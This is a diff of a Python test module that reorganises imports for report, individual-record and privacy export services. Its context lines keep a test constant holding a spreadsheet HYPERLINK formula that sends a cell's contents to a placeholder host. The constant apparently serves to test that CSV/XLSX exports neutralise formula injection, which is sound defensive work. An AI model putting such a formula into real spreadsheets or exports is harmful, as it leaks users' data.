@@ -13,10 +13,10 @@ from openpyxl import load_workbook
 from tests.report.population import build_population
 from ungtui.domain.fields import looks_like_formula, spreadsheet_text
 from ungtui.domain.periods import parse_period
-from ungtui.services.individuals import IndividualFilter, IndividualInput, save_individual
-from ungtui.services.list_export import export_individuals
-from ungtui.services.report import build_report
-from ungtui.services.report_export import as_csv
+from ungtui.services.followup.report import build_report
+from ungtui.services.followup.report_export import as_csv
+from ungtui.services.people.individuals import IndividualFilter, IndividualInput, save_individual
+from ungtui.services.privacy.list_export import export_individuals
 
 HYPERLINK = '=HYPERLINK("http://x/?q="&C2,"Klicka")'
 # As they may come from a spreadsheet or a peer; tab and CR cannot be typed here any more.
